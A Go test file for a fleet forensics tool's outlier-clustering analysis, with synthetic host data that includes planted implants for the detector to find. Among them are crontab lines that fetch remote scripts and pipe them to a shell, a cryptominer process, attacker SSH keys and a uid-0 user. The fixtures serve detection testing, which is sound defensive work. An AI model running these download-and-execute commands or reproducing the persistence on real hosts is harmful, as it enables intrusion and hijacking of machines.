package analyze_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/diffy-dfir/diffy/analyze"
	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/diffytest/fleet"
)

// varHost is one hand-made host of the variation tests: its rows by
// command, each command one Result.
type varHost map[string][]collect.Row

// baseHost returns the rows every host of the variation tests has: pid 1,
// sshd with its listener, cron, a few kernel modules, users and a key,
// with pids that vary and parents that match them.
func baseHost(i int) varHost {
	pid := func(base int) string { return fmt.Sprint(base + i%50) }
	return varHost{
		"processes": {
			{"pid": "1", "name": "systemd", "path": "/usr/lib/systemd/systemd", "cmdline": "/sbin/init", "uid": "0", "parent": "0", "start_time": "1"},
			{"pid": pid(600), "name": "sshd", "path": "/usr/sbin/sshd", "cmdline": "/usr/sbin/sshd -D", "uid": "0", "parent": "1", "start_time": "2"},
			{"pid": pid(700), "name": "cron", "path": "/usr/sbin/cron", "cmdline": "/usr/sbin/cron -f", "uid": "0", "parent": "1", "start_time": "2"},
			{"pid": pid(800), "name": "rsyslogd", "path": "/usr/sbin/rsyslogd", "cmdline": "/usr/sbin/rsyslogd -n", "uid": "104", "parent": "1", "start_time": "2"},
		},
		"listening_ports": {
			{"address": "0.0.0.0", "port": "22", "protocol": "6", "name": "sshd", "path": "/usr/sbin/sshd", "cmdline": "/usr/sbin/sshd -D", "pid": pid(600)},
		},
		"crontab": {
			{"event": "", "minute": "17", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*", "command": "root cd / && run-parts --report /etc/cron.hourly", "path": "/etc/crontab"},
		},
		"kernel_modules": {
			{"name": "ip6_tables", "size": "32768", "used_by": "-", "status": "Live", "address": "0x1"},
			{"name": "nf_defrag_ipv4", "size": "16384", "used_by": "-", "status": "Live", "address": "0x2"},
			{"name": "x_tables", "size": "53248", "used_by": "ip6_tables", "status": "Live", "address": "0x3"},
		},
		"users": {
			{"uid": "0", "gid": "0", "username": "root", "description": "root", "directory": "/root", "shell": "/bin/bash"},
			{"uid": "1000", "gid": "1000", "username": "ubuntu", "description": "Ubuntu", "directory": "/home/ubuntu", "shell": "/bin/bash"},
		},
		"authorized_keys": {
			{"username": "ubuntu", "algorithm": "ssh-ed25519", "key": "AAAAC3NzaC1lZDI1NTE5AAAAIfleetkey0", "key_file": "/home/ubuntu/.ssh/authorized_keys"},
		},
	}
}

// roleHosts returns n base hosts (baseHost), a tenth of which (i%10 == 7)
// run a role's application, java, as pid 4500.
func roleHosts(n int) []varHost {
	hosts := make([]varHost, n)
	for i := range hosts {
		hosts[i] = baseHost(i)
		if i%10 == 7 {
			hosts[i].add("processes", collect.Row{"pid": "4500", "name": "java", "path": "/usr/bin/java", "cmdline": "/usr/bin/java -jar /opt/app/app.jar",
				"uid": "1001", "parent": "1", "start_time": "3"})
		}
	}
	return hosts
}

// add appends rows of a command to the host.
func (h varHost) add(cmd string, rows ...collect.Row) varHost {
	h[cmd] = append(h[cmd], rows...)
	return h
}

// varResults turns hosts into Results, host i named i-%04d.
func varResults(hosts []varHost) []collect.Result {
	var out []collect.Result
	for i, h := range hosts {
		for _, cmd := range slices.Sorted(func(yield func(string) bool) {
			for c := range h {
				if !yield(c) {
					return
				}
			}
		}) {
			out = append(out, collect.Result{InstanceID: fmt.Sprintf("i-%04d", i), CommandID: cmd, Status: collect.StatusSuccess,
				CollectedAt: collectedAt, Rows: h[cmd]})
		}
	}
	return out
}

// outlierIDs returns the instance IDs of the report's outliers.
func outlierIDs(rep *analyze.Report) []string {
	var ids []string
	for _, h := range rep.Outliers() {
		ids = append(ids, h.InstanceID)
	}
	return ids
}

func hostID(i int) string { return fmt.Sprintf("i-%04d", i) }

// TestClusterBenignVariation: each kind of benign variation alone, at 200
// hosts, makes no outlier: a splayed cron minute, a daemon on a random
// high port on a tenth of the hosts (the port in its command line too), a
// per-host word in a path and a command line, per-CPU kernel threads by
// instance size, kworker names, a rolling deploy in large shares, a
// package user's uid allocated in another order on two hosts (drift, see
// TestClusterDeviations for uid 0), a daemon's binary replaced under it
// on two hosts ("(deleted)"), parent pids that match no process.
func TestClusterBenignVariation(t *testing.T) {
	const n = 200
	cases := map[string]func(i int, rng *rand.Rand, h varHost){
		"splayed minute": func(i int, rng *rand.Rand, h varHost) {
			h.add("crontab", collect.Row{"event": "", "minute": fmt.Sprint(rng.IntN(60)), "hour": "*/6", "day_of_month": "*", "month": "*",
				"day_of_week": "*", "command": "root /usr/bin/chef-client -z", "path": "/etc/cron.d/chef"})
		},
		"random port daemon": func(i int, rng *rand.Rand, h varHost) {
			if i%10 != 0 {
				return
			}
			port := fmt.Sprint(1024 + rng.IntN(30000))
			cmd := "/usr/bin/java -Dcom.sun.management.jmxremote.port=" + port + " -jar /opt/app/app.jar"
			h.add("processes", collect.Row{"pid": "4000", "name": "java", "path": "/usr/bin/java", "cmdline": cmd, "uid": "1001", "parent": "1", "start_time": "3"})
			h.add("listening_ports", collect.Row{"address": "0.0.0.0", "port": port, "protocol": "6", "name": "java", "path": "/usr/bin/java", "cmdline": cmd, "pid": "4000"})
		},
		"per-host word": func(i int, rng *rand.Rand, h varHost) {
			w := ""
			for range 8 {
				w += string(rune('a' + rng.IntN(26)))
			}
			h.add("processes", collect.Row{"pid": "4100", "name": "containerd-shim", "path": "/usr/bin/containerd-shim",
				"cmdline": "/usr/bin/containerd-shim -namespace moby -workdir /var/lib/containerd/" + w + " -name " + w, "uid": "0", "parent": "1", "start_time": "3"})
		},
		"per-cpu threads": func(i int, rng *rand.Rand, h varHost) {
			cpus := []int{2, 4, 8, 16}[rng.IntN(4)]
			for c := range cpus {
				h.add("processes", collect.Row{"pid": fmt.Sprint(10 + c), "name": fmt.Sprintf("ksoftirqd/%d", c), "path": "", "cmdline": "", "uid": "0", "parent": "2", "start_time": "1"})
			}
		},
		"kworker names": func(i int, rng *rand.Rand, h varHost) {
			for k := range 6 {
				name := fmt.Sprintf("kworker/%d:%d-%s", rng.IntN(8), rng.IntN(4), []string{"events", "mm_percpu_wq", "events_unbound"}[rng.IntN(3)])
				h.add("processes", collect.Row{"pid": fmt.Sprint(200 + k), "name": name, "path": "", "cmdline": "", "uid": "0", "parent": "2", "start_time": "1"})
			}
		},
		"rolling deploy": func(i int, rng *rand.Rand, h varHost) {
			ver := []string{"2.4.1", "2.5.0", "2.5.0"}[i%3]
			h.add("processes", collect.Row{"pid": "4200", "name": "app", "path": "/opt/app-" + ver + "/bin/app", "cmdline": "/opt/app-" + ver + "/bin/app --serve",
				"uid": "1001", "parent": "1", "start_time": "3"})
		},
		"uid drift": func(i int, rng *rand.Rand, h varHost) {
			// A package's system user, allocated in each host's order: 995
			// on the two hosts where another package came first, 996
			// elsewhere; its daemon runs as that uid.
			id := "996"
			if i%100 == 3 {
				id = "995"
			}
			h.add("users", collect.Row{"uid": id, "gid": id, "username": "otelcol", "description": "", "directory": "/var/lib/otelcol", "shell": "/usr/sbin/nologin"})
			h.add("processes", collect.Row{"pid": "4300", "name": "otelcol", "path": "/usr/bin/otelcol", "cmdline": "/usr/bin/otelcol --config=/etc/otelcol/config.yaml",
				"uid": id, "parent": "1", "start_time": "3"})
		},
		"binary replaced under a running daemon": func(i int, rng *rand.Rand, h varHost) {
			// A package upgrade replaced rsyslogd's binary on two hosts
			// (at most r of 200: rare) that have not restarted it since:
			// the kernel marks the running file's path.
			if i%100 == 5 {
				h["processes"][3]["path"] += " (deleted)"
			}
		},
		"parents that match no pid": func(i int, rng *rand.Rand, h varHost) {
			for _, r := range h["processes"] {
				r["parent"] = fmt.Sprint(20000 + rng.IntN(10000))
			}
		},
	}
	for name, vary := range cases {
		t.Run(name, func(t *testing.T) {
			rng := rand.New(rand.NewPCG(7, uint64(len(name))))
			hosts := make([]varHost, n)
			for i := range hosts {
				hosts[i] = baseHost(i)
				vary(i, rng, hosts[i])
			}
			rep := analyzeResults(t, varResults(hosts))
			if ids := outlierIDs(rep); len(ids) != 0 {
				h := rep.Outliers()[0]
				t.Errorf("%d outliers, want none; first %s: %+v", len(ids), h.InstanceID, h.Findings)
			}
		})
	}
}

// TestClusterDeviations: on 200 hosts alike, one host differs in a way an
// investigator wants to see; it is the only outlier, its first finding is
// the row, and says why in words.
func TestClusterDeviations(t *testing.T) {
	const n, bad = 200, 77
	cases := []struct {
		name   string
		change func(h varHost)
		cmd    string
		why    string
	}{
		{"system binary at a new path", func(h varHost) {
			h["processes"][1]["path"] = "/usr/local/sbin/.sshd"
		}, "processes", `path="/usr/local/sbin/.sshd" on 1 of the 200 hosts with this row, where 199 have "/usr/sbin/sshd"`},
		{"second listener of a daemon", func(h varHost) {
			h.add("listening_ports", collect.Row{"address": "0.0.0.0", "port": "2222", "protocol": "6", "name": "sshd", "path": "/usr/sbin/sshd", "cmdline": "/usr/sbin/sshd -D", "pid": "600"})
		}, "listening_ports", `port="2222" on 1 of the 200 hosts with this row, where 200 have "22"`},
		{"daemon under an odd parent", func(h varHost) {
			for _, r := range h["processes"] {
				if r["name"] == "rsyslogd" {
					r["parent"] = h["processes"][2]["pid"] // cron
				}
			}
		}, "processes", `its parent process is "cron" on 1 of the 200 hosts with this process, where 199 have "systemd"`},
		{"daemon under a role's application", func(h varHost) {
			for _, r := range h["processes"] {
				if r["name"] == "rsyslogd" {
					r["parent"] = "4500" // the java application below
				}
			}
		}, "processes", `its parent process is "java" on 1 of the 200 hosts with this process, where 199 have "systemd"`},
		{"uid 0 for a known user", func(h varHost) {
			h["users"][1] = collect.Row{"uid": "0", "gid": "1000", "username": "ubuntu", "description": "Ubuntu", "directory": "/home/ubuntu", "shell": "/bin/bash"}
		}, "users", `uid="0" on 1 of the 200 hosts with this row, where 199 have "1000"`},
		{"kernel module", func(h varHost) {
			h.add("kernel_modules", collect.Row{"name": "nf_xjqz", "size": "16384", "used_by": "-", "status": "Live", "address": "0x9"})
		}, "kernel_modules", `name="nf_xjqz" on 1 of the 200 hosts with this row, where 200 have "ip6_tables"`},
		{"key for a known user", func(h varHost) {
			h.add("authorized_keys", collect.Row{"username": "ubuntu", "algorithm": "ssh-ed25519", "key": "AAAAC3NzaC1lZDI1NTE5AAAAIattacker9", "key_file": "/home/ubuntu/.ssh/authorized_keys"})
		}, "authorized_keys", `key="AAAAC3NzaC1lZDI1NTE5AAAAIattacker9" on 1 of the 200 hosts with this row, where 200 have "AAAAC3NzaC1lZDI1NTE5AAAAIfleetkey0"`},
		{"crontab line", func(h varHost) {
			h.add("crontab", collect.Row{"event": "", "minute": "*/5", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
				"command": "curl -fsSL http://203.0.113.7:8080/x.sh | sh", "path": "/var/spool/cron/crontabs/root"})
		}, "crontab", `no other of the 200 hosts has a crontab row like it`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			hosts := roleHosts(n)
			c.change(hosts[bad])
			rep := analyzeResults(t, varResults(hosts))
			if ids := outlierIDs(rep); !slices.Equal(ids, []string{hostID(bad)}) {
				t.Fatalf("outliers %v, want only %s", ids, hostID(bad))
			}
			f := rep.Outliers()[0].Findings[0]
			if f.CommandID != c.cmd || !f.Deciding || !strings.Contains(f.Why, c.why) {
				t.Errorf("first finding %s %q (deciding %v), want %s saying %q", f.CommandID, f.Why, f.Deciding, c.cmd, c.why)
			}
		})
	}
}

// TestClusterDaemonUnderSizedApplication: a role's application whose
// command line differs on every host (a heap sized by the instance), so
// that each of its rows is on one host though its template is on a tenth
// of them; a daemon restarted under it on one host (an exploit of the
// application) is a parent deviation that decides, as under an
// application whose rows are alike (TestClusterDeviations).
func TestClusterDaemonUnderSizedApplication(t *testing.T) {
	const n, bad = 200, 77
	hosts := make([]varHost, n)
	for i := range hosts {
		hosts[i] = baseHost(i)
		if i%10 == 7 {
			cmd := fmt.Sprintf("/usr/bin/java -Xms%dm -Xmx%dm -jar /opt/app/app.jar", 1024+64*i, 1024+64*i)
			hosts[i].add("processes", collect.Row{"pid": "4500", "name": "java", "path": "/usr/bin/java", "cmdline": cmd,
				"uid": "1001", "parent": "1", "start_time": "3"})
		}
	}
	for _, r := range hosts[bad]["processes"] {
		if r["name"] == "rsyslogd" {
			r["parent"] = "4500"
		}
	}
	rep := analyzeResults(t, varResults(hosts))
	if ids := outlierIDs(rep); !slices.Equal(ids, []string{hostID(bad)}) {
		t.Fatalf("outliers %v, want only %s", ids, hostID(bad))
	}
	const why = `its parent process is "java" on 1 of the 200 hosts with this process, where 199 have "systemd"`
	if f := rep.Outliers()[0].Findings[0]; f.CommandID != "processes" || !f.Deciding || !strings.Contains(f.Why, why) {
		t.Errorf("first finding %s %q (deciding %v), want processes saying %q", f.CommandID, f.Why, f.Deciding, why)
	}
}

// TestClusterCampaign: an implant (a miner process, its crontab line and
// a key for root) on 7% of 800 hosts, beside benign jobs each caught on a
// few percent of the hosts independently: exactly the implant's hosts are
// outliers, the implant's rows come first in their findings, and the
// first note names them as a likely campaign.
func TestClusterCampaign(t *testing.T) {
	const n = 800
	rng := rand.New(rand.NewPCG(11, 12))
	hosts := make([]varHost, n)
	var planted []string
	jobs := []string{"logrotate /etc/logrotate.conf", "apt-get -qq update", "find /var/log -mtime +7", "sleep 30", "gzip -9 /var/log/syslog.1"}
	for i := range hosts {
		hosts[i] = baseHost(i)
		for j, job := range jobs {
			if rng.IntN(100) < 3 {
				hosts[i].add("processes", collect.Row{"pid": fmt.Sprint(5000 + j), "name": strings.Fields(job)[0], "path": "/usr/bin/" + strings.Fields(job)[0],
					"cmdline": job, "uid": "0", "parent": "1", "start_time": "9"})
			}
		}
		if i%14 == 3 {
			planted = append(planted, hostID(i))
			hosts[i].add("processes", collect.Row{"pid": "31337", "name": "kdevtmpfsi", "path": "/tmp/.ICE-unix/kdevtmpfsi", "cmdline": "/tmp/.ICE-unix/kdevtmpfsi -o pool.minexmr.com:443", "uid": "0", "parent": "1", "start_time": "8"})
			hosts[i].add("crontab", collect.Row{"event": "", "minute": "*/10", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
				"command": "curl -s http://198.51.100.9/ldr.sh | sh", "path": "/var/spool/cron/crontabs/root"})
			hosts[i].add("authorized_keys", collect.Row{"username": "root", "algorithm": "ssh-rsa", "key": "AAAAB3NzaC1yc2EAAAADAQABAAABAQattacker", "key_file": "/root/.ssh/authorized_keys"})
		}
	}
	rep := analyzeResults(t, varResults(hosts))
	if ids := outlierIDs(rep); !slices.Equal(ids, planted) {
		t.Fatalf("%d outliers %v, want the %d implant hosts %v", len(ids), ids, len(planted), planted)
	}
	for _, h := range rep.Outliers() {
		if f := h.Findings[0]; !strings.Contains(f.Why, "a likely campaign") {
			t.Errorf("%s: first finding %s %q, want an implant row", h.InstanceID, f.CommandID, f.Why)
		}
	}
	if !strings.HasPrefix(rep.Notes[0], fmt.Sprintf("likely campaign on %d of the 800 hosts: 3 rows", len(planted))) ||
		!strings.Contains(rep.Notes[0], "kdevtmpfsi") || !strings.Contains(rep.Notes[0], "ldr.sh") || !strings.Contains(rep.Notes[0], "attacker") {
		t.Errorf("first note %q, want the campaign and its three rows", rep.Notes[0])
	}
}

// TestClusterUntrusted: when more than a fifth of the hosts would be
// outliers (here each of 30% has a row of its own, a tenth of the hosts
// in each of three commands, so that no command's novelty exceeds a
// fifth), no host is flagged, the first note says the decision is not to
// be trusted, and the hosts are ranked instead.
func TestClusterUntrusted(t *testing.T) {
	const n = 200
	hosts := make([]varHost, n)
	for i := range hosts {
		hosts[i] = baseHost(i)
		// Two words of its own: rows that differ from each other in two
		// places are new, not one shape with a per-host name.
		word, other := fmt.Sprintf("x%c%c", 'a'+i%26, 'a'+i/26), fmt.Sprintf("y%c%c", 'a'+i/26, 'a'+i%26)
		switch i % 10 {
		case 0:
			hosts[i].add("users", collect.Row{"uid": "2000", "gid": "100", "username": word, "description": "", "directory": "/var/" + other, "shell": "/bin/sh"})
		case 1:
			hosts[i].add("kernel_modules", collect.Row{"name": "mod_" + word, "size": "1", "used_by": "-", "status": "Live", "address": "0x9"})
		case 2:
			hosts[i].add("crontab", collect.Row{"event": "", "minute": "1", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
				"command": "/usr/local/bin/" + word, "path": "/etc/cron.d/" + other})
		}
	}
	rep := analyzeResults(t, varResults(hosts))
	if len(rep.Outliers()) != 0 {
		t.Errorf("%d outliers, want none: the decision is not to be trusted", len(rep.Outliers()))
	}
	if !strings.HasPrefix(rep.Notes[0], "the decision is not to be trusted: 60 of the 200 hosts") {
		t.Errorf("first note %q", rep.Notes[0])
	}
	ranked := 0
	for _, h := range rep.Hosts {
		if h.Rank > 0 {
			ranked++
		}
	}
	if ranked != 60 {
		t.Errorf("%d hosts ranked, want the 60 with a row of their own", ranked)
	}
}

// TestClusterWeakAtSmallSizes: below 100 hosts the first note says the
// decision is weak at that size.
func TestClusterWeakAtSmallSizes(t *testing.T) {
	for _, n := range []int{20, 60} {
		hosts := make([]varHost, n)
		for i := range hosts {
			hosts[i] = baseHost(i)
		}
		rep := analyzeResults(t, varResults(hosts))
		if !strings.HasPrefix(rep.Notes[0], fmt.Sprintf("the decision is weak at this size: with %d hosts", n)) {
			t.Errorf("%d hosts: first note %q", n, rep.Notes[0])
		}
	}
}

// TestClusterDuplicates: of two Results for one (host, command), the one
// collected later is analyzed, the earlier one is named in Skipped; two
// collected at the same time are merged, and a note says so.
func TestClusterDuplicates(t *testing.T) {
	var res []collect.Result
	for i := range 30 {
		res = append(res, host(fmt.Sprintf("i-%03d", i), commonRows(i, nil))...)
	}
	evil := func(name string) collect.Row {
		return collect.Row{"uid": "0", "gid": "0", "username": name, "description": "", "directory": "/tmp", "shell": "/bin/sh"}
	}
	// i-001: an earlier users Result with a planted row, then the usual one.
	early := res[3*1+2]
	early.CollectedAt = collectedAt.Add(-1)
	early.Rows = append(slices.Clone(early.Rows), evil("toorb"))
	// i-002: a later users Result with the planted row wins.
	late := res[3*2+2]
	late.CollectedAt = collectedAt.Add(1)
	late.Rows = append(slices.Clone(late.Rows), evil("toorc"))
	// i-003: the same time: merged.
	same := res[3*3+2]
	same.Rows = []collect.Row{evil("toord")}
	res = append([]collect.Result{early}, append(res, late, same)...)
	rep := analyzeResults(t, res)
	if ids := outlierIDs(rep); !slices.Equal(ids, []string{"i-002", "i-003"}) {
		t.Errorf("outliers %v, want i-002 (its later Result) and i-003 (merged)", ids)
	}
	var sources []string
	for _, s := range rep.Skipped {
		sources = append(sources, s.Source)
	}
	want := []string{
		"instance i-001, command users: 1 result(s) collected at 2026-11-26T11:59:59.999999999Z",
		"instance i-002, command users: 1 result(s) collected at 2026-11-26T12:00:00Z",
	}
	if !slices.Equal(sources, want) {
		t.Errorf("skipped %q, want %q", sources, want)
	}
	if !slices.ContainsFunc(rep.Notes, func(s string) bool {
		return strings.HasPrefix(s, "1 (host, command) pairs had several Results collected at the same time")
	}) {
		t.Errorf("notes %q do not say what was merged", rep.Notes)
	}
}

// TestClusterMaxFindings: every finding is kept by default; MaxFindings
// keeps the most telling ones, Host.FindingsOmitted counts the others,
// and the score is the same.
func TestClusterMaxFindings(t *testing.T) {
	hosts := make([]varHost, 100)
	for i := range hosts {
		hosts[i] = baseHost(i)
	}
	for _, m := range []string{"nf_aaa", "nf_bbb", "nf_ccc"} {
		hosts[5].add("kernel_modules", collect.Row{"name": m, "size": "1", "used_by": "-", "status": "Live", "address": "0x9"})
	}
	res := varResults(hosts)
	all := analyzeResults(t, res)
	cut, err := analyze.Clustering{MaxFindings: 1, Now: func() time.Time { return collectedAt }}.Analyze(context.Background(), analyze.Input{Results: res})
	if err != nil {
		t.Fatal(err)
	}
	a, c := all.Hosts[5], cut.Hosts[5]
	if len(a.Findings) != 3 || a.FindingsOmitted != 0 || len(c.Findings) != 1 || c.FindingsOmitted != 2 || a.Score != c.Score ||
		!reflect.DeepEqual(a.Findings[0], c.Findings[0]) {
		t.Errorf("all: %d findings, %d omitted, score %v; MaxFindings 1: %d findings, %d omitted, score %v",
			len(a.Findings), a.FindingsOmitted, a.Score, len(c.Findings), c.FindingsOmitted, c.Score)
	}
}

// TestReportMedoid: the most typical host is in the largest cluster, not
// an outlier, and central on the map; with every host an outlier there is
// none.
func TestReportMedoid(t *testing.T) {
	rep := &analyze.Report{Hosts: []analyze.Host{
		{InstanceID: "i-a", Cluster: 0, Position: []float64{0, 0}},
		{InstanceID: "i-b", Cluster: 0, Position: []float64{1, 0}},
		{InstanceID: "i-c", Cluster: 0, Position: []float64{2, 0}},
		{InstanceID: "i-d", Cluster: 0, Position: []float64{1, 0.1}, Outlier: true},
		{InstanceID: "i-e", Cluster: 1, Position: []float64{1, 0}},
	}}
	if id, ok := rep.Medoid(); !ok || id != "i-b" {
		t.Errorf("medoid %q %v, want i-b", id, ok)
	}
	for i := range rep.Hosts {
		rep.Hosts[i].Outlier = true
	}
	if id, ok := rep.Medoid(); ok {
		t.Errorf("medoid %q of a report whose hosts are all outliers", id)
	}
	// On a simulated group the medoid is a clean host.
	f := fleet.Generate(fleet.Scenario("medium"))
	r := analyzeResults(t, f.Results(collectedAt))
	id, ok := r.Medoid()
	for _, h := range f.Hosts {
		if h.Instance.ID == id && (h.Compromised || !ok) {
			t.Errorf("medoid %s is compromised", id)
		}
	}
}
